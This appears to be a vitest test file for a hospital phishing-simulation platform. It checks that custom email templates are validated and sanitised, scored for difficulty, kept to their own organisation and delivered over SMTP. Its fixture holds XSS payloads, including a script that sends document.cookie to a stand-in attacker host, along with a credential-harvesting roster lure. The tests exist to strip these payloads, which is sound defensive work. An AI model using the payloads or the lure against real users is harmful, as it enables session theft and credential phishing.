import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedOrg, signIn, startTestServer, type SeededOrg, type TestClient, type TestServer } from '../test-support/harness.js';
import { auditEntries } from '../test-support/audit.js';
import { createMailSender } from '../mail/transport.js';
import { SmtpSink } from './testing/smtp-sink.js';
import { sendDue } from './sender.js';

// Custom templates: unknown merge fields refused by name, HTML sanitised server-side (sanitize-html),
// Phish Scale difficulty computed, another organisation refused, campaigns keep the copy they
// were created with, and the sanitised mail goes out over real SMTP.

let sink: SmtpSink;
let server: TestServer;
let org: SeededOrg;
let other: SeededOrg;
let admin: TestClient;
let outsider: TestClient;
let templateId: string;
let adminSecret: string;
let outsiderSecret: string;

const base = '/api/v1/phishing';
const HOSTILE_HTML = `<p onclick="steal()" style="background:url(https://evil.test/x)">Hello {{firstName}},</p>
<script>fetch('https://evil.test/'+document.cookie)</script>
<p>Your roster for next week changed. <a href="{{link}}" onmouseover="alert(1)">Open the roster</a>
<a href="javascript:alert(2)">also here</a></p><iframe src="https://evil.test/"></iframe>
<img src="x" onerror="alert(3)"><img src="{{pixel}}" width="1" height="1" alt=""><svg><script>alert(4)</script></svg>`;

const body = (over: Record<string, unknown> = {}) => ({
  name: 'Roster swap request',
  theme: 'Scheduling',
  subject: 'Roster change for {{department}}: please confirm today',
  fromName: 'Roster Office',
  fromLocalPart: 'roster-office',
  text: 'Hello {{firstName}},\n\nYour roster for next week changed. Confirm before 17:00 today:\n\n{{link}}\n\nRoster Office',
  html: HOSTILE_HTML,
  linkText: 'https://roster.hospital-portal.test/confirm',
  cues: [
    { category: 'language', label: 'sense of urgency', excerpt: 'before 17:00 today', explanation: 'A deadline today pushes you to act first.' },
    { category: 'technical', label: 'link text differs from target', excerpt: 'https://roster.hospital-portal.test/confirm', explanation: 'Hover the link: it goes elsewhere.' },
  ],
  premise: { mimicsWorkplaceProcess: 2, workplaceRelevance: 2, alignsWithCurrentEvents: 1, concernOverNotClicking: 2, previouslyWarned: 0 },
  landing: { kind: 'login', title: 'Roster portal', fields: ['username', 'password'] },
  ...over,
});

/** A campaign of `templateId` for everyone, sendable from now for an hour. */
const campaignWith = (templateId: string, name: string) => {
  const now = server.clock.now().getTime();
  return {
    name,
    templateId,
    target: { everyone: true },
    window: { start: new Date(now).toISOString(), end: new Date(now + 3600_000).toISOString() },
    businessHours: { startHour: 0, endHour: 24, timeZone: 'UTC', weekdaysOnly: false },
    senderDomain: 'roster-portal.test',
  };
};

beforeAll(async () => {
  sink = await SmtpSink.start();
  server = await startTestServer({ smtp: { host: '127.0.0.1', port: sink.port }, phishing: { schedulerIntervalSeconds: 3600 } });
  org = await seedOrg(server, 'Template Hospital');
  other = await seedOrg(server, 'Other Template Clinic');
  const signed = await signIn(server, org.admin.email);
  admin = signed.client;
  adminSecret = signed.totpSecret;
  const signedOutsider = await signIn(server, other.admin.email);
  outsider = signedOutsider.client;
  outsiderSecret = signedOutsider.totpSecret;
});
afterAll(async () => {
  await server?.stop();
  await sink?.close();
});

describe('custom templates', () => {
  it('refuses an unknown merge field with a stable code naming it, in any part', async () => {
    for (const over of [{ subject: 'Hi {{password}}' }, { html: '<p>{{ssn}} <a href="{{link}}">x</a></p>' }, { text: 'Dear {{ firstName }} {{badge_no}} {{link}}' }]) {
      const r = await admin.post(`${base}/templates`, body(over));
      expect(r.status).toBe(422);
      expect(r.body.error.code).toBe('UNKNOWN_MERGE_FIELD');
      expect(r.body.error.message).toMatch(/\{\{(password|ssn|badge_no)\}\}/);
    }
    const noLink = await admin.post(`${base}/templates`, body({ text: 'Hello {{firstName}}, no link here.' }));
    expect(noLink.body.error.code).toBe('VALIDATION_FAILED');
    const badCue = await admin.post(`${base}/templates`, body({ cues: [{ category: 'language', label: 'x', excerpt: 'not in the mail', explanation: 'x' }] }));
    expect([badCue.status, badCue.body.error.code]).toEqual([400, 'VALIDATION_FAILED']);
  });

  it('sanitises the HTML server-side and computes the Phish Scale difficulty', async () => {
    const r = await admin.post(`${base}/templates`, body());
    expect(r.status).toBe(200);
    templateId = r.body.id;
    const html: string = r.body.html;
    for (const bad of ['<script', 'onclick', 'onmouseover', 'onerror', 'javascript:', '<iframe', 'style=', 'evil.test', '<svg']) expect(html).not.toContain(bad);
    expect(html).toContain('<a href="{{link}}">Open the roster</a>');
    expect(html).toContain('<img src="{{pixel}}"');
    // 2 cues (few) and premise 7 (high): very difficult in NIST's table.
    expect(r.body).toMatchObject({ custom: true, cueCount: 2, cueBand: 'few', premiseBand: 'high', difficulty: 'hard' });
    const easier = await admin.post(`${base}/templates`, body({ name: 'Warned premise', premise: { mimicsWorkplaceProcess: 1, workplaceRelevance: 1, alignsWithCurrentEvents: 0, concernOverNotClicking: 0, previouslyWarned: 2 } }));
    expect(easier.body).toMatchObject({ premiseBand: 'low', difficulty: 'medium' });
    const list = await admin.get(`${base}/templates`);
    expect(list.body.templates.filter((t: { custom: boolean }) => t.custom).map((t: { id: string }) => t.id)).toContain(templateId);
    expect((await auditEntries(server, org.id)).filter((e) => e.type === 'phishing.template_created').map((e) => e.entity?.id)).toContain(templateId);
  });

  it("keeps templates inside their organisation and built-in ones read-only", async () => {
    expect((await outsider.get(`${base}/templates/${templateId}`)).status).toBe(404);
    expect((await outsider.put(`${base}/templates/${templateId}`, body({ name: 'Hijacked' }))).status).toBe(404);
    expect((await outsider.get(`${base}/templates`)).body.templates.map((t: { id: string }) => t.id)).not.toContain(templateId);
    const now = server.clock.now().getTime();
    const c = await outsider.post(`${base}/campaigns`, {
      name: 'x',
      templateId,
      target: { everyone: true },
      window: { start: new Date(now).toISOString(), end: new Date(now + 3600_000).toISOString() },
      businessHours: { startHour: 0, endHour: 24, timeZone: 'UTC', weekdaysOnly: false },
      senderDomain: 'x-portal.test',
    });
    expect([c.status, c.body.error.code]).toEqual([400, 'VALIDATION_FAILED']);
    const builtIn = await admin.put(`${base}/templates/ehr-password-expiry`, body());
    expect([builtIn.status, builtIn.body.error.code]).toEqual([403, 'FORBIDDEN']);
  });

  it('sends the sanitised mail; a campaign keeps the template as it was when created', async () => {
    const now = server.clock.now().getTime();
    const c = await admin.post(`${base}/campaigns`, {
      name: 'Roster drill',
      templateId,
      target: { everyone: true },
      window: { start: new Date(now).toISOString(), end: new Date(now + 3600_000).toISOString() },
      businessHours: { startHour: 0, endHour: 24, timeZone: 'UTC', weekdaysOnly: false },
      senderDomain: 'roster-portal.test',
    });
    expect(c.body).toMatchObject({ templateName: 'Roster swap request', difficulty: 'hard' });
    const edited = await admin.put(`${base}/templates/${templateId}`, body({ name: 'Roster v2', subject: 'Edited subject' }));
    expect(edited.body).toMatchObject({ id: templateId, name: 'Roster v2' });
    expect((await auditEntries(server, org.id)).at(-1)).toMatchObject({ type: 'phishing.template_updated', entity: { id: templateId } });
    expect((await admin.post(`${base}/campaigns/${c.body.id}/launch`)).status).toBe(200);
    server.clock.advance(3600);
    const mailer = createMailSender(server.deps.config);
    expect(await sendDue(server.deps, mailer)).toMatchObject({ failed: 0 });
    mailer.close();
    expect(sink.mails.length).toBeGreaterThan(0);
    for (const m of sink.mails) {
      expect(m.parsed.subject).toMatch(/^Roster change for .*: please confirm today$/);
      expect(m.parsed.subject).not.toContain('Edited');
      const html = String(m.parsed.html);
      expect(html).not.toMatch(/<script|onclick|javascript:|evil\.test/);
      expect(html).toMatch(/<a href="https?:\/\/[^"]+\/t\/c\/[A-Za-z0-9_-]{22}">Open the roster<\/a>/);
    }
    // The clock moved past the idle logoff: sign in again.
    admin = (await signIn(server, org.admin.email, adminSecret)).client;
    expect((await admin.get(`${base}/campaigns/${c.body.id}`)).body.templateName).toBe('Roster swap request');
  });

  it('deletes a custom template: audited, gone for new campaigns, kept by the campaigns made with it; built-in and other organisations\' refused', async () => {
    const made = await admin.post(`${base}/templates`, body({ name: 'Short-lived drill' }));
    expect(made.status).toBe(200);
    const id = made.body.id as string;
    const campaign = await admin.post(`${base}/campaigns`, campaignWith(id, 'Drill with a template about to go'));
    expect(campaign.status).toBe(200);

    // The earlier test moved the clock past the idle logoff.
    outsider = (await signIn(server, other.admin.email, outsiderSecret)).client;
    expect((await outsider.delete(`${base}/templates/${id}`)).status).toBe(404);
    const builtIn = await admin.delete(`${base}/templates/ehr-password-expiry`);
    expect([builtIn.status, builtIn.body.error.code]).toEqual([403, 'FORBIDDEN']);

    expect((await admin.delete(`${base}/templates/${id}`)).body).toEqual({ ok: true });
    expect((await auditEntries(server, org.id)).at(-1)).toMatchObject({ type: 'phishing.template_deleted', action: 'D', entity: { type: 'phishing_template', id }, detail: { name: 'Short-lived drill' } });
    expect((await admin.get(`${base}/templates/${id}`)).status).toBe(404);
    expect((await admin.get(`${base}/templates`)).body.templates.map((t: { id: string }) => t.id)).not.toContain(id);
    expect((await admin.delete(`${base}/templates/${id}`)).status).toBe(404);
    // The campaign keeps its copy.
    expect((await admin.get(`${base}/campaigns/${campaign.body.id}`)).body).toMatchObject({ templateName: 'Short-lived drill' });
    const again = await admin.post(`${base}/campaigns`, campaignWith(id, 'After the deletion'));
    expect([again.status, again.body.error.code]).toEqual([400, 'VALIDATION_FAILED']);
  });
});
